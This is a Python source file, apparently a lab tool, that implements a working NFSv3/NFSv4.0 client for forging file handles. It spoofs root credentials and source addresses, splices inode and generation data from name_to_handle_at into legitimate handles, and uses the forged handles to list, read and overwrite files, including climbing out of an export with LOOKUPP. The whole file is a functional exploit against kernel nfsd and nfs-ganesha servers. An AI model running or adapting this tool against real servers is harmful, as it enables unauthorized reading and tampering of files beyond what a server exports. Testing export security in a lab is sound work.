"""An NFS client that lies: file handles made up from legitimate ones, by NFSv3 and NFSv4.0.

Only the standard library, so that it runs wherever there is a python3 near a server: in the lab's
containers, in a virtual machine. As a program it takes what it shall do as JSON lines on its
standard input, and answers each with one line.

RFC 5531 (ONC RPC), 1813 (NFSv3, MOUNT3), 7530 (NFSv4.0). A handle of the kernel's nfsd and one of
nfs-ganesha both end in what name_to_handle_at(2) says of the file, which is all that is forged.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import socket
import struct
import sys
from collections.abc import Callable
from dataclasses import dataclass

_NFS, _MOUNT = 100003, 100005
_MOUNT3_MNT = 1
_GETATTR3, _LOOKUP3, _READ3, _WRITE3, _READDIR3 = 1, 3, 6, 7, 16
_COMPOUND = 1
_OP_GETATTR, _OP_GETFH, _OP_LOOKUP, _OP_LOOKUPP = 9, 10, 15, 16
_OP_PUTFH, _OP_PUTROOTFH, _OP_READ, _OP_READDIR, _OP_WRITE = 22, 24, 25, 26, 38
_FATTR4_TYPE = 1  # bit 1 of the first word
_ANONYMOUS_STATEID = bytes(16)
_DATA_SYNC = 2
_PATIENCE = 10.0  # seconds
_ENOUGH = 4096  # bytes of a file


class Refused(Exception):
    """The server did not do what it was asked for: its status, or how RPC itself was denied."""


class Answer:
    """The results of a call, read from their beginning."""

    def __init__(self, data: bytes) -> None:
        self._data = data
        self._at = 0

    def word(self) -> int:
        """Return the next 32 bits."""
        (value,) = struct.unpack(">I", self.fixed(4))
        return int(value)

    def fixed(self, length: int) -> bytes:
        """Return the next bytes."""
        value = self._data[self._at : self._at + length]
        if len(value) < length:
            raise Refused("truncated")
        self._at += length
        return value

    def opaque(self) -> bytes:
        """Return bytes that come after their length, and pass over what fills them up."""
        length = self.word()
        value = self.fixed(length)
        self._at += -length % 4
        return value

    def status(self, what: str) -> None:
        """Read a status; raises Refused unless it is 0."""
        if status := self.word():
            raise Refused(f"{what} {status}")


def opaque(data: bytes) -> bytes:
    """Return bytes with their length before them, filled up to words."""
    return struct.pack(">I", len(data)) + data + bytes(-len(data) % 4)


class Connection:
    """A TCP connection to one RPC service, as root (AUTH_SYS), from an address of one's choice."""

    def __init__(self, server: str, port: int, source: str) -> None:
        self._socket = _connect((server, port), source)
        self._xid = 0

    def close(self) -> None:
        """End it."""
        self._socket.close()

    def call(self, program: int, version: int, procedure: int, arguments: bytes) -> Answer:
        """Call a procedure and return its results. Raises Refused, OSError."""
        self._xid += 1
        credential = opaque(struct.pack(">I", 0) + opaque(b"forge") + struct.pack(">III", 0, 0, 0))
        header = struct.pack(">6I", self._xid, 0, 2, program, version, procedure)
        message = header + struct.pack(">I", 1) + credential + bytes(8) + arguments
        self._socket.sendall(struct.pack(">I", 0x80000000 | len(message)) + message)
        answer = Answer(self._record())
        if answer.word() != self._xid:
            raise Refused("another call's answer")
        answer.word()  # REPLY
        if answer.word():
            raise Refused(f"denied {answer.word()} {answer.word()}")  # such as AUTH_ERROR, why
        answer.word()
        answer.opaque()  # verifier
        answer.status("rpc")
        return answer

    def _record(self) -> bytes:
        record, last = b"", False
        while not last:
            (mark,) = struct.unpack(">I", self._exactly(4))
            last = bool(mark & 0x80000000)
            record += self._exactly(mark & 0x7FFFFFFF)
        return record

    def _exactly(self, length: int) -> bytes:
        data = b""
        while len(data) < length:
            piece = self._socket.recv(length - len(data))
            if not piece:
                raise Refused("the connection was closed")
            data += piece
        return data


def _connect(server: tuple[str, int], source: str) -> socket.socket:
    """Connect from a port that only root has, as the kernel's nfsd wants; else from any."""
    for port in range(1023, 664, -1):
        try:
            return socket.create_connection(server, _PATIENCE, (source, port))
        except OSError as error:
            if error.errno == errno.EACCES:
                break
            if error.errno not in (errno.EADDRINUSE, errno.EADDRNOTAVAIL):
                raise
    return socket.create_connection(server, _PATIENCE, (source, 0))


@dataclass(frozen=True)
class Client:
    """What one machine, or one that claims to be, asks of a server."""

    server: str
    source: str
    mount_port: int = 20048
    nfs_port: int = 2049

    def handle3(self, path: str) -> bytes:
        """Return the handle of an export's root by MOUNT3."""
        connection = Connection(self.server, self.mount_port, self.source)
        answer = connection.call(_MOUNT, 3, _MOUNT3_MNT, opaque(path.encode()))
        connection.close()
        answer.status("mount")
        return answer.opaque()

    def handle4(self, path: str) -> bytes:
        """Return the handle of a path by NFSv4."""
        ops = [struct.pack(">I", _OP_PUTROOTFH)]
        ops += [_lookup4(name) for name in path.strip("/").split("/")]
        answer = self._compound([*ops, struct.pack(">I", _OP_GETFH)])
        for each in [_OP_PUTROOTFH, *[_OP_LOOKUP] * (len(ops) - 1), _OP_GETFH]:
            _operation(answer, each)
        return answer.opaque()

    def lookup(self, version: int, handle: bytes, name: str) -> bytes:
        """Return the handle of a name in a folder; `..` is LOOKUPP by NFSv4."""
        if version == 3:
            answer = self._nfs3(_LOOKUP3, opaque(handle) + opaque(name.encode()))
            return answer.opaque()
        op = struct.pack(">I", _OP_LOOKUPP) if name == ".." else _lookup4(name)
        answer = self._compound([_putfh(handle), op, struct.pack(">I", _OP_GETFH)])
        _operation(answer, _OP_PUTFH)
        _operation(answer, _OP_LOOKUPP if name == ".." else _OP_LOOKUP)
        _operation(answer, _OP_GETFH)
        return answer.opaque()

    def kind(self, version: int, handle: bytes) -> int:
        """Return what a handle is of, by its attributes: 1 a file, 2 a folder, …."""
        if version == 3:
            return self._nfs3(_GETATTR3, opaque(handle)).word()
        wanted = struct.pack(">III", _OP_GETATTR, 1, 1 << _FATTR4_TYPE)
        answer = self._compound([_putfh(handle), wanted])
        _operation(answer, _OP_PUTFH)
        _operation(answer, _OP_GETATTR)
        answer.fixed(4 * answer.word())  # which attributes come
        return Answer(answer.opaque()).word()

    def read(self, version: int, handle: bytes) -> bytes:
        """Return the beginning of a file."""
        if version == 3:
            answer = self._nfs3(_READ3, opaque(handle) + struct.pack(">QI", 0, _ENOUGH))
            if answer.word():
                answer.fixed(84)  # attributes
            answer.fixed(8)  # count, end of file
            return answer.opaque()
        read = struct.pack(">I16sQI", _OP_READ, _ANONYMOUS_STATEID, 0, _ENOUGH)
        answer = self._compound([_putfh(handle), read])
        _operation(answer, _OP_PUTFH)
        _operation(answer, _OP_READ)
        answer.word()  # end of file
        return answer.opaque()

    def write(self, version: int, handle: bytes, data: bytes) -> None:
        """Write to the beginning of a file."""
        if version == 3:
            arguments = opaque(handle) + struct.pack(">QII", 0, len(data), _DATA_SYNC)
            self._nfs3(_WRITE3, arguments + opaque(data))
            return
        write = struct.pack(">I16sQI", _OP_WRITE, _ANONYMOUS_STATEID, 0, _DATA_SYNC) + opaque(data)
        answer = self._compound([_putfh(handle), write])
        _operation(answer, _OP_PUTFH)
        _operation(answer, _OP_WRITE)

    def list(self, version: int, handle: bytes) -> list[str]:
        """Return the first names in a folder, sorted, without `.` and `..`."""
        if version == 3:
            answer = self._nfs3(_READDIR3, opaque(handle) + struct.pack(">Q8xI", 0, _ENOUGH))
            if answer.word():
                answer.fixed(84)
            answer.fixed(8)  # verifier
        else:
            readdir = struct.pack(">IQ8xII", _OP_READDIR, 0, _ENOUGH, _ENOUGH)
            answer = self._compound([_putfh(handle), readdir + struct.pack(">I", 0)])
            _operation(answer, _OP_PUTFH)
            _operation(answer, _OP_READDIR)
            answer.fixed(8)
        names = []
        while answer.word():
            if version == 3:
                answer.fixed(8)  # fileid
                names.append(answer.opaque().decode())
                answer.fixed(8)  # cookie
            else:
                answer.fixed(8)
                names.append(answer.opaque().decode())
                answer.fixed(4 * answer.word())  # attributes: none were asked for
                answer.opaque()
        return sorted(set(names) - {".", ".."})

    def _nfs3(self, procedure: int, arguments: bytes) -> Answer:
        connection = Connection(self.server, self.nfs_port, self.source)
        try:
            answer = connection.call(_NFS, 3, procedure, arguments)
        finally:
            connection.close()
        answer.status("nfs3")
        return answer

    def _compound(self, operations: list[bytes]) -> Answer:
        connection = Connection(self.server, self.nfs_port, self.source)
        arguments = opaque(b"") + struct.pack(">II", 0, len(operations)) + b"".join(operations)
        try:
            answer = connection.call(_NFS, 4, _COMPOUND, arguments)
        finally:
            connection.close()
        answer.status("nfs4")
        answer.opaque()  # tag
        answer.word()  # number of results
        return answer


def _lookup4(name: str) -> bytes:
    return struct.pack(">I", _OP_LOOKUP) + opaque(name.encode())


def _putfh(handle: bytes) -> bytes:
    return struct.pack(">I", _OP_PUTFH) + opaque(handle)


def _operation(answer: Answer, expected: int) -> None:
    if answer.word() != expected:
        raise Refused("another operation's result")
    answer.status(f"operation {expected}")


# --- what the server's file systems call a file


def kernel_handle(path: str) -> bytes:
    """Return what name_to_handle_at(2) says of a file: inode, generation and what else it takes.

    Whoever forges handles is supposed to know them for every file of the server.
    """
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128), 136)
    mount = ctypes.c_int()
    at_fdcwd = -100
    if libc.name_to_handle_at(at_fdcwd, os.fsencode(path), buffer, ctypes.byref(mount), 0):
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), path)
    (length,) = struct.unpack_from("I", buffer.raw)
    return buffer.raw[8 : 8 + length]


def replaced(handle: bytes, part: bytes, other: bytes) -> bytes:
    """Return a handle with its one occurrence of `part` replaced by as many other bytes."""
    if len(part) != len(other) or handle.count(part) != 1:
        raise ValueError(f"{part.hex()} is not replaced in {handle.hex()}")
    return handle.replace(part, other)


# --- as a program


def run(request: dict[str, str | int]) -> str | int | list[str] | None:
    """Do what one line of the input asks for; handles are hexadecimal."""
    verb, version = request["do"], int(request.get("version", 3))
    if verb == "kernel_handle":
        return kernel_handle(str(request["path"])).hex()
    client = Client(str(request["server"]), str(request["source"]))
    if verb == "mount":
        path = str(request["path"])
        return (client.handle3(path) if version == 3 else client.handle4(path)).hex()
    handle, about = bytes.fromhex(str(request["handle"])), str(request.get("about", ""))
    verbs: dict[object, Callable[[], str | int | list[str] | None]] = {
        "lookup": lambda: client.lookup(version, handle, about).hex(),
        "kind": lambda: client.kind(version, handle),
        "read": lambda: client.read(version, handle).decode("utf-8", "replace"),
        "write": lambda: client.write(version, handle, about.encode()),
        "list": lambda: client.list(version, handle),
    }
    return verbs[verb]()


def main() -> None:
    """Answer each line: {"said": …} or {"refused": …}."""
    for line in sys.stdin:
        try:
            answer: dict[str, object] = {"said": run(json.loads(line))}
        except (Refused, OSError) as error:
            answer = {"refused": str(error)}
        print(json.dumps(answer), flush=True)


if __name__ == "__main__":
    main()
